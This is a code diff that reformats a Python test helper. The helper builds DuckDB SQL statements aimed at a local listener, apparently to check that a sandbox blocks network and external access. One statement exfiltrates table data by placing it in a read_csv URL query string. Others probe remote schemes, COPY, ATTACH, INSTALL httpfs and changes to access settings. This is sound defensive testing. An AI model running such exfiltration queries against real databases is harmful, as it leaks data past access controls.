@@ -34,8 +34,10 @@ def corpus(target: str) -> list:
     """``[(statement, kind)]`` aimed at ``target`` (``http://127.0.0.1:PORT``)."""
     host = target.split("://", 1)[1]
     port = host.rsplit(":", 1)[1]
-    leak = ("SET VARIABLE v = (SELECT string_agg(weather, '-') FROM (SELECT weather FROM seattle_weather LIMIT 5)); "
-            "SELECT * FROM read_csv('" + target + "/leak?d=' || getvariable('v'))")
+    leak = (
+        "SET VARIABLE v = (SELECT string_agg(weather, '-') FROM (SELECT weather FROM seattle_weather LIMIT 5)); "
+        "SELECT * FROM read_csv('" + target + "/leak?d=' || getvariable('v'))"
+    )
     return [
         ("SELECT * FROM read_csv('" + target + "/a.csv')", "network"),
         ("SELECT * FROM read_csv_auto('" + target + "/b.csv')", "network"),
@@ -101,9 +103,17 @@ def corpus(target: str) -> list:
 def one_of_each(target: str) -> list:
     """A statement of each way in (a URL built from data, each scheme family, COPY, ATTACH, INSTALL, SET):
     for entry points that cost a page load per statement and then take a path the whole corpus takes."""
-    wanted = ("SET VARIABLE", "SELECT * FROM read_csv('" + target, "SELECT * FROM read_csv('https://",
-              "SELECT * FROM read_csv('s3://", "SELECT * FROM read_csv(printf(", "COPY (SELECT",
-              "ATTACH '" + target, "INSTALL httpfs", "SET enable_external_access")
+    wanted = (
+        "SET VARIABLE",
+        "SELECT * FROM read_csv('" + target,
+        "SELECT * FROM read_csv('https://",
+        "SELECT * FROM read_csv('s3://",
+        "SELECT * FROM read_csv(printf(",
+        "COPY (SELECT",
+        "ATTACH '" + target,
+        "INSTALL httpfs",
+        "SET enable_external_access",
+    )
     return [next(entry for entry in corpus(target) if entry[0].startswith(prefix)) for prefix in wanted]
 
 
@@ -139,9 +149,10 @@ class Knocks:
             self.seen.append(first.split(b"\r\n", 1)[0].decode("latin-1"))
             body = b"a,b\n1,2\n"
             try:
-                connection.sendall(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/csv\r\n"
-                                   b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n"
-                                   + body)
+                connection.sendall(
+                    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/csv\r\n"
+                    b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body
+                )
             except OSError:
                 pass
 
